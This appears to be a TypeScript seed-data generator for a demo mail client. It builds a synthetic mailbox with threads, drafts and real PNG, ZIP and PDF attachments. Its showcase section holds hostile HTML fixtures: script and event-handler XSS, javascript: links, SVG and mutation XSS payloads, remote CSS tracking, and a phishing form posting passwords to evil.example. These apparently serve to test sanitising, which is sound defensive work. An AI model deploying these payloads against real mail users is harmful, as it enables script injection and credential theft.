  const seed = rng.fork();
  return { from, to, lang, subject, segments, seed, recipe: { kind, seed, lang, attachments, org: from.org } };
}

function estimateSize(draw: Pick<Draw, 'segments' | 'recipe'>): number {
  const text = draw.segments.length * 110;
  const html = draw.recipe.kind === 'plain' ? 0 : draw.recipe.kind === 'newsletter' ? 6000 : text * 2;
  const files = draw.recipe.attachments.reduce((sum, plan) => sum + Math.ceil((plan.size || 1200) * 1.37), 0);
  return 900 + text + html + files + (draw.recipe.kind === 'inline' ? 800 : 0);
}

function addressOf(p: Person): Address {
  return p.addr;
}

/** Shared empty list: stored lists are never mutated in place, and freezing makes sure of it. */
const NONE = Object.freeze([]) as unknown as never[];

const FLAG_SETS = new Map<number, Flags>();
/** Shared, frozen flag objects: the backend replaces a message's flags, it never mutates them. */
function flagSet(seen: boolean, flagged: boolean): Flags {
  const key = (seen ? 1 : 0) | (flagged ? 2 : 0);
  let flags = FLAG_SETS.get(key);
  if (!flags)
    FLAG_SETS.set(key, (flags = Object.freeze({ seen, flagged, answered: false, forwarded: false, draft: false })));
  return flags;
}

function store(
  gen: Generator,
  folderId: string,
  time: number,
  draw: Draw,
  extra: Partial<StoredMessage> = {},
): StoredMessage {
  const id = extra.id ?? nextId(gen, folderId);
  const domain = draw.from.address.slice(draw.from.address.indexOf('@') + 1);
  const messageId = messageIdFor(gen, id, domain);
  const message: StoredMessage = {
    id,
    folderId,
    messageId,
    threadId: id,
    from: draw.from.addr,
    to: draw.to.asList,
    cc: NONE,
    bcc: NONE,
    replyTo: NONE,
    subject: draw.subject,
    time,
    size: estimateSize(draw),
    flags: flagSet(true, false),
    hasAttachments: draw.recipe.attachments.length > 0,
    references: NONE,
    segments: draw.segments,
    recipe: draw.recipe,
    lcFrom: draw.from.lc,
    lcTo: draw.to.lc,
    lcSubject: draw.subject.toLowerCase(),
    ...extra,
  };
  gen.messages.push(message);
  return message;
}

/** Seen flags follow age: recent mail is often unread, old mail almost never. */
function flagsFor(rng: Rng, age: number): Flags {
  const unseenChance = age < 2 * DAY ? 0.6 : age < 14 * DAY ? 0.15 : 0.015;
  return flagSet(!rng.chance(unseenChance), rng.chance(0.04));
}

function senders(gen: Generator, filter: (p: Person) => boolean): Person[] {
  return gen.people.filter(filter);
}

/**
 * The inbox, oldest first, with the Sent replies that belong to its threads. Message `k` of `n` sits at
 * age span·((k + r)/n)^1.15: denser near `now`, sparser further back, and in date order without sorting.
 */
function generateInbox(gen: Generator, n: number, reserved: number): void {
  const { rng, now } = gen;
  const span = spanFor(n);
  const correspondents = senders(gen, (p) => p.kind !== 'spam');
  const weighted = [
    ...correspondents,
    ...senders(gen, (p) => p.kind === 'customer' || p.kind === 'supplier' || p.kind === 'individual'),
  ];
  const recent: StoredMessage[] = [];
  for (let k = n - 1; k >= reserved; k--) {
    const age = span * Math.pow((k + rng.next()) / n, 1.15) + 60_000;
    const time = Math.round(now - age);
    const parent = recent.length && rng.chance(0.18) ? recent[rng.int(recent.length)]! : undefined;
    if (parent && parent.from) {
      replyInThread(gen, parent, time, age);
      continue;
    }
    const from = rng.pick(weighted);
    const draw = drawContent(gen, from, gen.me, rng);
    const message = store(gen, 'inbox', time, draw, { flags: flagsFor(rng, age) });
    if (from.kind !== 'service') {
      recent.push(message);
      if (recent.length > 12) recent.shift();
    }
  }
}

/** A reply from the same correspondent, often after one of ours in Sent (which marks the parent answered). */
function replyInThread(gen: Generator, parent: StoredMessage, time: number, age: number): void {
  const { rng } = gen;
  const sender = gen.people.find((p) => p.address === parent.from!.address) ?? gen.me;
  let previous = parent;
  if (rng.chance(0.7) && time - 60_000 > parent.time) {
    const ourTime = Math.round(parent.time + (time - parent.time) * (0.3 + 0.4 * rng.next()));
    const ours = drawContent(gen, gen.me, sender, rng);
    ours.subject = `Re: ${parent.subject.replace(/^(re|rv|aw):\s*/i, '')}`;
    ours.recipe.attachments = NONE;
    previous = store(gen, 'sent', ourTime, ours, {
      threadId: parent.threadId,
      inReplyTo: parent.messageId,
      references: [...parent.references, parent.messageId],
      flags: flagSet(true, false),
      lcSubject: ours.subject.toLowerCase(),
      hasAttachments: false,
    });
    parent.flags = { ...parent.flags, answered: true };
  }
  const draw = drawContent(gen, sender, gen.me, rng);
  const prefix = sender.lang === 'es' && rng.chance(0.3) ? 'RE: ' : 'Re: ';
  draw.subject = prefix + parent.subject.replace(/^(re|rv|aw):\s*/i, '');
  store(gen, 'inbox', time, draw, {
    threadId: parent.threadId,
    inReplyTo: previous.messageId,
    references: [...previous.references, previous.messageId],
    flags: flagsFor(rng, age),
    lcSubject: draw.subject.toLowerCase(),
  });
}

/** A folder of filed (seen) mail from `pool`, spread over `span`. */
function generateFiled(gen: Generator, folderId: string, n: number, pool: Person[], outgoing = false): void {
  const { rng, now } = gen;
  const span = spanFor(Math.max(n * 10, 2000));
  for (let k = n - 1; k >= 0; k--) {
    const age = span * Math.pow((k + rng.next()) / n, 1.1) + 3_600_000;
    const other = rng.pick(pool);
    const draw = outgoing ? drawContent(gen, gen.me, other, rng) : drawContent(gen, other, gen.me, rng);
    const flags = folderId === 'junk' ? flagSet(flagsFor(rng, age).seen, false) : flagSet(true, rng.chance(0.03));
    store(gen, folderId, Math.round(now - age), draw, { flags });
  }
}

function generateDrafts(gen: Generator): void {
  const targets = senders(gen, (p) => p.kind === 'customer' || p.kind === 'supplier');
  const texts: [Lang, string, string][] = [
    [
      'en',
      'Proposal for the Atlas roll-out',
      'Hi {first},\n\nFollowing our call, here is a first outline of the roll-out plan.\n\n',
    ],
    [
      'es',
      'Presupuesto revisado',
      'Hola {first}:\n\nTe envío el presupuesto revisado con los cambios que comentamos.\n\n',
    ],
    ['en', '', 'Notes to self: call the bank about the transfer.'],
  ];
  texts.forEach(([lang, subject, template], index) => {
    const to = targets.find((p) => p.lang === lang) ?? gen.me;
    const text = fill(template, { first: to.first });
    const time = gen.now - (index + 1) * 5 * HOUR;
    const id = nextId(gen, 'drafts');
    const recipients = index === 2 ? [] : [addressOf(to)];
    const draft: Draft = {
      id,
      from: addressOf(gen.me),
      to: recipients,
      cc: [],
      bcc: [],
      subject,
      text,
      attachments: [],
    };
    gen.messages.push({
      id,
      folderId: 'drafts',
      messageId: `<${id}@example.com>`,
      threadId: `t-${id}`,
      from: addressOf(gen.me),
      to: recipients,
      cc: [],
      bcc: [],
      replyTo: [],
      subject,
      time,
      size: 600 + text.length,
      flags: { seen: true, flagged: false, answered: false, forwarded: false, draft: true },
      hasAttachments: false,
      references: [],
      body: { text, parts: [], extraHeaders: [] },
      lcBody: text.toLowerCase(),
      lcFrom: gen.me.lc,
      lcTo: recipients.length ? to.lc : '',
      lcSubject: subject.toLowerCase(),
      draft,
    });
  });
}

/**
 * Builds the demo mailbox. With `messages: 0` every folder is empty (records and link configs remain), which is
 * what contract tests want.
 */
export function generateSeed(options: SeedOptions = {}): SeedData {
  const now = nowOf(options.now);
  const n = Math.max(0, Math.floor(options.messages ?? DEFAULT_SEED_MESSAGES));
  const rng = new Rng(hashSeed(options.seed ?? 1));
  const people = buildPeople();
  const me = person(SEED_IDENTITIES[0]!.name!, SEED_IDENTITIES[0]!.address, 'es', 'colleague', 'Example');
  const gen: Generator = {
    rng,
    pool: new TextPool(),
    now,
    people,
    me,
    messages: [],
    counters: new Map(),
    greetings: new Map(),
    signoffs: new Map(),
    paragraphs: new Map(),
  };
  const records = buildRecords();
  const links: SeedLink[] = [];
  if (n > 0) {
    const showcase = n >= SHOWCASE_MIN ? showcaseMessages(gen) : [];
    generateInbox(gen, n, showcase.length);
    const business = senders(gen, (p) => p.kind === 'customer' || p.kind === 'supplier' || p.kind === 'individual');
    generateFiled(gen, 'sent', clamp(Math.round(n * 0.03), 5, 3000), business, true);
    generateFiled(
      gen,
      'archive',
      clamp(Math.round(n * 0.1), 10, 10000),
      senders(gen, (p) => p.kind !== 'spam'),
    );
    generateFiled(
      gen,
      'junk',
      clamp(Math.round(n * 0.006), 4, 60),
      senders(gen, (p) => p.kind === 'spam'),
    );
    generateFiled(
      gen,
      'trash',
      clamp(Math.round(n * 0.01), 4, 200),
      senders(gen, (p) => p.kind !== 'spam'),
    );
    generateFiled(
      gen,
      'projects',
      clamp(Math.round(n * 0.01), 3, 400),
      senders(gen, (p) => p.kind === 'colleague'),
    );
    generateFiled(
      gen,
      'projects-acme',
      clamp(Math.round(n * 0.015), 3, 600),
      senders(gen, (p) => p.org === 'Acme Corporation'),
    );
    generateFiled(
      gen,
      'clientes',
      clamp(Math.round(n * 0.015), 3, 600),
      senders(gen, (p) => p.lang === 'es' && (p.kind === 'customer' || p.kind === 'individual')),
    );
    generateDrafts(gen);
    links.push(...seedLinks(gen, records));
  }
  return {
    now,
    identities: SEED_IDENTITIES.map((a) => ({ ...a })),
    folders: SEED_FOLDERS.map((f) => ({ ...f })),
    messages: gen.messages,
    pool: gen.pool,
    records,
    linkConfigs: LINK_CONFIGS.map((c) => ({ ...c, ignoredDomains: [...c.ignoredDomains] })),
    links,
  };
}

function clamp(value: number, min: number, max: number): number {
  return Math.min(max, Math.max(min, value));
}

/** A few of the first customer's mails are already linked, so the side bar has something to show. */
function seedLinks(gen: Generator, records: BusinessRecord[]): SeedLink[] {
  const record = records.find((r) => r.objectName === 'customers');
  if (!record?.email) return [];
  const ids = gen.messages
    .filter((m) => m.from?.address === record.email && m.folderId === 'inbox')
    .slice(-3)
    .map((m) => m.id);
  return ids.length ? [{ objectName: record.objectName, objectId: record.objectId, messageIds: ids }] : [];
}

// ---------------------------------------------------------------------------------------------------------------
// Showcase messages: fixed ids near the top of the inbox for the demo and for tests

const SHOWCASE_MIN = 20;

/** Ids of the fixed messages the demo and the tests rely on. */
export const SHOWCASE_IDS = {
  newsletter: 'inbox-newsletter',
  inlineImage: 'inbox-inline-image',
  attachments: 'inbox-attachments',
  spanish: 'inbox-bienvenida',
  hostileScript: 'inbox-hostile-script',
  hostileCss: 'inbox-hostile-css',
  hostileSvg: 'inbox-hostile-svg',
  hostileForm: 'inbox-hostile-form',
} as const;

export const LOGO_CONTENT_ID = 'logo@acme.example';

function showcaseMessages(gen: Generator): StoredMessage[] {
  const acme = gen.people.find((p) => p.address === 'john.smith@acme.example')!;
  const specs: [string, Person | Address, string, string | undefined, string | undefined, StoredPart[]][] = [
    [
      SHOWCASE_IDS.newsletter,
      { name: 'The Dev Digest', address: 'digest@newsletter.example' },
      'This week in web development: 5 tools we loved',
      undefined,
      newsletterHtml('showcase', 'en'),
      [],
    ],
    [
      SHOWCASE_IDS.inlineImage,
      acme,
      'Our new logo (inline image)',
      undefined,
      `<p>Hi Dana,</p><p>Here is the new logo, embedded in this mail:</p><p><img src="cid:${LOGO_CONTENT_ID}" alt="Acme logo" width="96" height="48"></p><p>Best regards,<br>John Smith<br>Acme Corporation</p>`,
      [logoPart()],
    ],
    [
      SHOWCASE_IDS.attachments,
      { name: 'Lucía Fernández', address: 'lucia.fernandez@construcciones-iberia.example' },
      'Documentación de la obra: planos, presupuesto y fotos',
      'Hola Dana:\n\nTe adjunto la documentación de la obra: el contrato en PDF, el presupuesto en Excel, la memoria en Word, una foto y un ZIP con los planos.\n\nUn saludo,\nLucía Fernández\nConstrucciones Iberia S.L.',
      undefined,
      showcaseAttachments(),
    ],
    [
      SHOWCASE_IDS.spanish,
      { name: 'Elena Navarro', address: 'elena.navarro@costaazul.example' },
      'Bienvenida al programa de fidelización',
      'Hola Dana:\n\nGracias por unirte a nuestro programa. Recibirás un descuento del 15 % en tu próxima reserva en Hoteles Costa Azul.\n\nSaludos cordiales,\nElena Navarro',
      undefined,
      [],
    ],
    [
      SHOWCASE_IDS.hostileScript,
      { name: 'Accounts Department', address: 'billing@invoices-online.example' },
      'Your invoice is ready (hostile: scripts)',
      undefined,
      HOSTILE_SCRIPT,
      [],
    ],
    [
      SHOWCASE_IDS.hostileCss,
      { name: 'Weekly Deals', address: 'deals@evil.example' },
      'Weekly deals inside (hostile: remote CSS)',
      undefined,
      HOSTILE_CSS,
      [],
    ],
    [
      SHOWCASE_IDS.hostileSvg,
      { name: 'Security Team', address: 'security@account-verify.example' },
      'Security alert: verify your account (hostile: SVG)',
      undefined,
      HOSTILE_SVG,
      [],
    ],
    [
      SHOWCASE_IDS.hostileForm,
      { name: 'Soporte Técnico', address: 'soporte@verificacion-cuenta.example' },
      'Verifique su contraseña hoy (hostil: formulario)',
      undefined,
      HOSTILE_FORM,
      [],
    ],
  ];
  return specs.map(([id, sender, subject, text, html, parts], index) => {
    const from: Address = 'kind' in sender ? addressOf(sender) : sender;
    const plain = text ?? undefined;
    const body: StoredBody = {
      text: plain,
      html,
      parts,
      extraHeaders:
        id === SHOWCASE_IDS.newsletter
          ? [{ name: 'List-Unsubscribe', value: '<https://newsletter.example/unsubscribe?u=dana>' }]
          : [],
    };
    const searchable = plain ?? (html ? html.replace(/<[^>]*>/g, ' ') : '');
    const message: StoredMessage = {
      id,
      folderId: 'inbox',
      messageId: `<${id}@${from.address.slice(from.address.indexOf('@') + 1)}>`,
      threadId: `t-${id}`,
      from,
      to: [addressOf(gen.me)],
      cc: [],
      bcc: [],
      replyTo: id === SHOWCASE_IDS.hostileForm ? [{ address: 'recover@phish.example' }] : [],
      subject,
      time: gen.now - (index + 1) * 7 * 60_000,
      size:
        900 +
        (plain?.length ?? 0) +
        (html?.length ?? 0) +
        parts.reduce((sum, p) => sum + Math.ceil(p.bytes.length * 1.37), 0),
      flags: {
        seen: index > 3,
        flagged: id === SHOWCASE_IDS.attachments,
        answered: false,
        forwarded: false,
        draft: false,
      },
      hasAttachments: parts.some((p) => !p.inline),
      references: [],
      body,
      lcBody: searchable.toLowerCase(),
      lcFrom: `${from.name ?? ''} ${from.address}`.toLowerCase(),
      lcTo: gen.me.lc,
      lcSubject: subject.toLowerCase(),
    };
    gen.messages.push(message);
    return message;
  });
}

const HOSTILE_SCRIPT = `<p>Dear customer,</p>
<p>Your invoice is ready. <script>alert('script tag ran')</script></p>
<img src="https://evil.example/x.png" onerror="alert('onerror ran')" alt="invoice">
<p><a href="javascript:alert('javascript: link ran')">Download the invoice</a></p>
<p><a href="JaVaScRiPt&colon;alert(1)">Encoded javascript: link</a></p>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<div onclick="alert('onclick ran')" onmouseover="alert('hover ran')">Hover or click here</div>`;

const HOSTILE_CSS = `<style>
@import url(https://evil.example/x.css);
@font-face { font-family: spy; src: url(https://evil.example/font.woff2); }
body { background: url(https://evil.example/bg.png); font-family: spy, sans-serif; }
.deal { background-image: url('https://evil.example/track.gif?u=dana'); }
</style>
<div class="deal" style="background:url(https://evil.example/inline-bg.png);padding:16px">
<h1 style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Overlay that hides the real content</h1>
<p>This week's deals are inside.</p></div>
<img src="https://track.evil.example/pixel.gif" width="1" height="1" alt="">`;

const HOSTILE_SVG = `<p>We detected unusual activity. Verify your account now.</p>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="60">
<a><animate attributeName="href" values="javascript:alert('svg animate ran')"/><text x="10" y="30">Verify account</text></a>
<image href="https://evil.example/svg-pixel.png" width="1" height="1"/>
<set attributeName="onmouseover" to="alert(1)"/>
</svg>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mutation XSS ran')"></style></mglyph></table></mtext></math>`;

const HOSTILE_FORM = `<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
<base href="https://evil.example/">
<p>Estimado cliente: su contraseña caduca hoy. Confírmela a continuación.</p>
<form action="https://evil.example/steal" method="post">
<input name="email" type="email" placeholder="Correo"><input name="password" type="password" placeholder="Contraseña">
<button type="submit">Verificar</button></form>
<a href="relative/path">Enlace relativo (resuelto contra &lt;base&gt;)</a>`;

export function newsletterHtml(key: string, lang: Lang): string {
  const cdn = 'https://cdn.newsletter.example/img';
  const title = lang === 'es' ? 'Novedades de la semana' : 'This week in web development';
  const items = (
    lang === 'es'
      ? ['Ofertas de temporada', 'Lo más vendido', 'Nuevas marcas']
      : ['Faster builds with native tools', 'A guide to web components', 'Five accessibility wins']
  ).map(
    (item, i) =>
      `<tr><td style="padding:12px"><img src="${cdn}/article-${i + 1}.jpg" width="120" height="80" alt=""></td><td style="padding:12px;vertical-align:top"><h2 style="margin:0 0 6px;font-size:18px">${item}</h2><p style="margin:0;color:#555">${lang === 'es' ? 'Descubre todos los detalles en nuestra web.' : 'Read the full story on our site.'}</p><p><a href="https://newsletter.example/articles/${i + 1}?utm_source=mail">${lang === 'es' ? 'Leer más' : 'Read more'}</a></p></td></tr>`,
  );
  return `<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="max-width:600px;margin:auto;font-family:Arial,sans-serif;border:1px solid #ddd">
<tr><td colspan="2" style="background:#1e3a8a;color:#fff;padding:16px"><img src="${cdn}/header.png" width="560" height="120" alt="${title}"><h1 style="margin:8px 0 0;font-size:24px">${title}</h1></td></tr>
${items.join('\n')}
<tr><td colspan="2" style="padding:12px;font-size:12px;color:#777;text-align:center">${lang === 'es' ? 'Recibes este correo porque estás suscrito.' : 'You receive this mail because you subscribed.'} <a href="https://newsletter.example/unsubscribe">${lang === 'es' ? 'Darse de baja' : 'Unsubscribe'}</a></td></tr>
</table>
<img src="https://track.newsletter.example/open/${encodeURIComponent(key)}.gif" width="1" height="1" alt="" style="display:block;border:0">`;
}

function logoPart(): StoredPart {
  return {
    id: 'part-logo',
    filename: 'logo.png',
    contentType: 'image/png',
    contentId: LOGO_CONTENT_ID,
    inline: true,
    bytes: makePng(96, 48, logoPixel),
  };
}

function logoPixel(x: number, y: number): [number, number, number] {
  const inA = Math.abs(x - 24) + Math.abs(y - 24) < 18;
  return inA ? [220, 38, 38] : y > 40 ? [30, 58, 138] : [255, 255, 255];
}

function showcaseAttachments(): StoredPart[] {
  const rng = new Rng(7);
  return [
    {
      id: 'att-1',
      filename: 'contrato-obra.pdf',
      contentType: CONTENT_TYPES.pdf,
      inline: false,
      bytes: makePdf('Contrato de obra', 30, rng),
    },
    {
      id: 'att-2',
      filename: 'presupuesto.xlsx',
      contentType: CONTENT_TYPES.xlsx,
      inline: false,
      bytes: makeOfficeZip('xlsx', 8 * 1024, rng),
    },
    {
      id: 'att-3',
      filename: 'memoria.docx',
      contentType: CONTENT_TYPES.docx,
      inline: false,
      bytes: makeOfficeZip('docx', 12 * 1024, rng),
    },
    {
      id: 'att-4',
      filename: 'foto-fachada.png',
      contentType: CONTENT_TYPES.png,
      inline: false,
      bytes: makePng(160, 100, (x, y) => [120 + ((x * 3) % 100), 140 + ((y * 2) % 80), 200]),
    },
    {
      id: 'att-5',
      filename: 'planos.zip',
      contentType: CONTENT_TYPES.zip,
      inline: false,
      bytes: makeZip([
        { name: 'planos/planta-baja.txt', data: textBytes('Planta baja\n'.repeat(400)) },
        { name: 'planos/alzado.txt', data: textBytes('Alzado\n'.repeat(300)) },
      ]),
    },
  ];
}

// ---------------------------------------------------------------------------------------------------------------
// Lazily built bodies

const escapeHtml = (text: string) => text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

/** The body of a seeded message, rebuilt from its recipe: the same every time. */
export function buildSeededBody(message: StoredMessage, pool: TextPool): StoredBody {
  const recipe = message.recipe!;
  const text = pool.join(message.segments ?? []);
  const rng = new Rng(recipe.seed);
  const parts: StoredPart[] = recipe.attachments.map((plan, index) => ({
    id: `att-${index + 1}`,
    filename: plan.filename,
    contentType: plan.contentType,
    inline: false,
    bytes: makeAttachment(plan, rng),
  }));
  let html: string | undefined;
  const extraHeaders: StoredBody['extraHeaders'] = [];
  if (recipe.kind === 'newsletter') {
    html = newsletterHtml(message.id, recipe.lang);
    extraHeaders.push({ name: 'List-Unsubscribe', value: '<https://newsletter.example/unsubscribe>' });
  } else if (recipe.kind === 'html' || recipe.kind === 'inline') {
    const paragraphs = (message.segments ?? []).map(
      (id) => `<p>${escapeHtml(pool.texts[id]!).replace(/\n/g, '<br>')}</p>`,
    );
    if (recipe.kind === 'inline') {
      const cid = `chart-${recipe.seed.toString(36)}@mail.example`;
      paragraphs.splice(
        paragraphs.length - 1,
        0,
        `<p><img src="cid:${cid}" alt="${recipe.lang === 'es' ? 'Gráfico' : 'Chart'}" width="120" height="60"></p>`,
      );
      parts.push({
        id: `att-${parts.length + 1}`,
        filename: 'chart.png',
        contentType: 'image/png',
        contentId: cid,
        inline: true,
        bytes: makeChart(rng),
      });
    }
    html = `<div style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">${paragraphs.join('\n')}</div>`;
  }
  return { text, html, parts, extraHeaders };
}

function makeAttachment(plan: AttachmentPlan, rng: Rng): Uint8Array {
  if (plan.contentType === CONTENT_TYPES.pdf)
    return makePdf(plan.filename, Math.max(4, Math.round(plan.size / 60)), rng);
  if (plan.contentType === CONTENT_TYPES.png) return makeChart(rng);
  if (plan.contentType === CONTENT_TYPES.zip)
    return makeZip([{ name: 'readme.txt', data: textBytes('Generated file.\n'.repeat(Math.ceil(plan.size / 16))) }]);
  return makeOfficeZip(plan.filename.endsWith('.xlsx') ? 'xlsx' : 'docx', plan.size, rng);
}

function makeChart(rng: Rng): Uint8Array {
  const bars = Array.from({ length: 6 }, () => 10 + rng.int(45));
  return makePng(120, 60, (x, y) => {
    const bar = Math.floor(x / 20);
    const inBar = x % 20 > 3 && x % 20 < 17 && 60 - y < bars[bar]!;
    return inBar ? [37, 99, 235] : [248, 250, 252];
  });
}

// ---------------------------------------------------------------------------------------------------------------
// Small real files: PNG (stored deflate), ZIP (stored), PDF

const encoder = new TextEncoder();
export const textBytes = (text: string) => encoder.encode(text);

let crcTable: Uint32Array | undefined;
export function crc32(bytes: Uint8Array, start = 0, end = bytes.length): number {
  if (!crcTable) {
    crcTable = new Uint32Array(256);
    for (let n = 0; n < 256; n++) {
      let c = n;
      for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
      crcTable[n] = c >>> 0;
    }
  }
  let crc = 0xffffffff;
  for (let i = start; i < end; i++) crc = crcTable[(crc ^ bytes[i]!) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

function concat(chunks: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(chunks.reduce((sum, c) => sum + c.length, 0));
  let offset = 0;
  for (const chunk of chunks) {
    out.set(chunk, offset);
    offset += chunk.length;
  }
  return out;
}

/** zlib stream with stored (uncompressed) blocks: valid, simple, and small images stay small. */
function zlibStored(data: Uint8Array): Uint8Array {
  const blocks: Uint8Array[] = [new Uint8Array([0x78, 0x01])];
  for (let offset = 0; offset < data.length || offset === 0; offset += 65535) {
    const chunk = data.subarray(offset, Math.min(offset + 65535, data.length));
    const last = offset + 65535 >= data.length;
    const header = new Uint8Array([
      last ? 1 : 0,
      chunk.length & 0xff,
      chunk.length >> 8,
      ~chunk.length & 0xff,
      (~chunk.length >> 8) & 0xff,
    ]);
    blocks.push(header, chunk);
    if (last) break;
  }
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  const adler = ((b << 16) | a) >>> 0;
  blocks.push(new Uint8Array([adler >>> 24, (adler >>> 16) & 0xff, (adler >>> 8) & 0xff, adler & 0xff]));
  return concat(blocks);
}

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const out = new Uint8Array(12 + data.length);
  const view = new DataView(out.buffer);
  view.setUint32(0, data.length);
  out.set(textBytes(type), 4);
  out.set(data, 8);
  view.setUint32(8 + data.length, crc32(out, 4, 8 + data.length));
  return out;
}

/** A real RGB PNG. */
export function makePng(
  width: number,
  height: number,
  pixel: (x: number, y: number) => [number, number, number],
): Uint8Array {
  const raw = new Uint8Array((width * 3 + 1) * height);
  let i = 0;
  for (let y = 0; y < height; y++) {
    raw[i++] = 0;
    for (let x = 0; x < width; x++) {
      const [r, g, b] = pixel(x, y);
      raw[i++] = r;
      raw[i++] = g;
      raw[i++] = b;
    }
  }
  const header = new Uint8Array(13);
  const view = new DataView(header.buffer);
  view.setUint32(0, width);
  view.setUint32(4, height);
  header.set([8, 2, 0, 0, 0], 8);
  const signature = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return concat([
    signature,
    pngChunk('IHDR', header),
    pngChunk('IDAT', zlibStored(raw)),
    pngChunk('IEND', new Uint8Array()),
  ]);
}

/** A real ZIP archive with stored entries. */
export function makeZip(entries: { name: string; data: Uint8Array }[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = textBytes(entry.name);
    const crc = crc32(entry.data);
    const local = new Uint8Array(30 + name.length);
    const lv = new DataView(local.buffer);
    lv.setUint32(0, 0x04034b50, true);
    lv.setUint16(4, 20, true);
    lv.setUint16(10, 0, true);
    lv.setUint16(12, 0x5b74, true); // 2025-11-20, a fixed date keeps the bytes deterministic
    lv.setUint32(14, crc, true);
    lv.setUint32(18, entry.data.length, true);
    lv.setUint32(22, entry.data.length, true);
    lv.setUint16(26, name.length, true);
    local.set(name, 30);
    const central = new Uint8Array(46 + name.length);
    const cv = new DataView(central.buffer);
    cv.setUint32(0, 0x02014b50, true);
    cv.setUint16(4, 20, true);
    cv.setUint16(6, 20, true);
    cv.setUint16(14, 0x5b74, true);
    cv.setUint32(16, crc, true);
    cv.setUint32(20, entry.data.length, true);
    cv.setUint32(24, entry.data.length, true);
    cv.setUint16(28, name.length, true);
    cv.setUint32(42, offset, true);
    central.set(name, 46);
    locals.push(local, entry.data);
    centrals.push(central);
    offset += local.length + entry.data.length;
  }
  const centralSize = centrals.reduce((sum, c) => sum + c.length, 0);
  const end = new Uint8Array(22);
  const ev = new DataView(end.buffer);
  ev.setUint32(0, 0x06054b50, true);
  ev.setUint16(8, entries.length, true);
  ev.setUint16(10, entries.length, true);
  ev.setUint32(12, centralSize, true);
  ev.setUint32(16, offset, true);
  return concat([...locals, ...centrals, end]);
}

function makeOfficeZip(type: 'docx' | 'xlsx', size: number, rng: Rng): Uint8Array {
  const rows = Math.max(4, Math.round(size / 60));
  const body =
    type === 'xlsx'
      ? Array.from(
          { length: rows },
          (_, r) => `<row r="${r + 1}"><c r="A${r + 1}"><v>${rng.int(10000)}</v></c></row>`,
        ).join('')
      : Array.from(
          { length: rows },
          () => `<w:p><w:r><w:t>${rng.pick(PROJECTS)} ${rng.int(1000)}</w:t></w:r></w:p>`,
        ).join('');
  const part = type === 'xlsx' ? 'xl/worksheets/sheet1.xml' : 'word/document.xml';
  return makeZip([
    {
      name: '[Content_Types].xml',
      data: textBytes(
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      ),
    },
    { name: part, data: textBytes(`<?xml version="1.0" encoding="UTF-8"?><doc>${body}</doc>`) },
  ]);
}

/** A real one-page PDF with `lines` lines of text and a correct cross-reference table. */
export function makePdf(title: string, lines: number, rng: Rng): Uint8Array {
  const ascii = title
    .normalize('NFD')
    .replace(/[^\x20-\x7e]/g, '')
    .replace(/[()\\]/g, '');
  const text = [`BT /F1 16 Tf 50 780 Td (${ascii}) Tj ET`];
  for (let i = 0; i < lines; i++)
    text.push(
      `BT /F1 9 Tf 50 ${760 - (i % 70) * 10} Td (Line ${i + 1}: ${rng.pick(PROJECTS)} ${rng.int(100000)}) Tj ET`,
    );
  const stream = text.join('\n');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let pdf = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(pdf.length);
    pdf += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = pdf.length;
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return textBytes(pdf);
}

/** The snippet of a stored message, computed once. */
export function snippetFor(message: StoredMessage, pool: TextPool): string {
  if (message.snippet === undefined) {
    let text = '';
    if (message.segments)
      text = pool.join(message.segments.slice(1)); // skip the greeting, like mail clients do
    else if (message.body?.text) text = message.body.text;
    else if (message.lcBody) text = message.body?.html ? htmlToPlainText(message.body.html) : '';
    message.snippet = snippetOf(text);
  }
  return message.snippet;
}

/**
 * A password account on example hosts, as `<mail-settings>` fills it in, for demos, stories and tests (the memory
 * backend's connection test passes with it; the password `wrong` fails).
 */
export const SAMPLE_ACCOUNT: MailServerSettingsInput = {
  preset: 'custom',
  incoming: { protocol: 'imap', host: 'imap.example.com', port: 993, security: 'tls' },
  outgoing: { host: 'smtp.example.com', port: 587, security: 'starttls' },
  userName: 'dana@example.com',
  email: 'dana@example.com',
  displayName: 'Dana Ortiz',
  auth: 'password',
  oauthEndpointId: null,
  password: 'right',
};
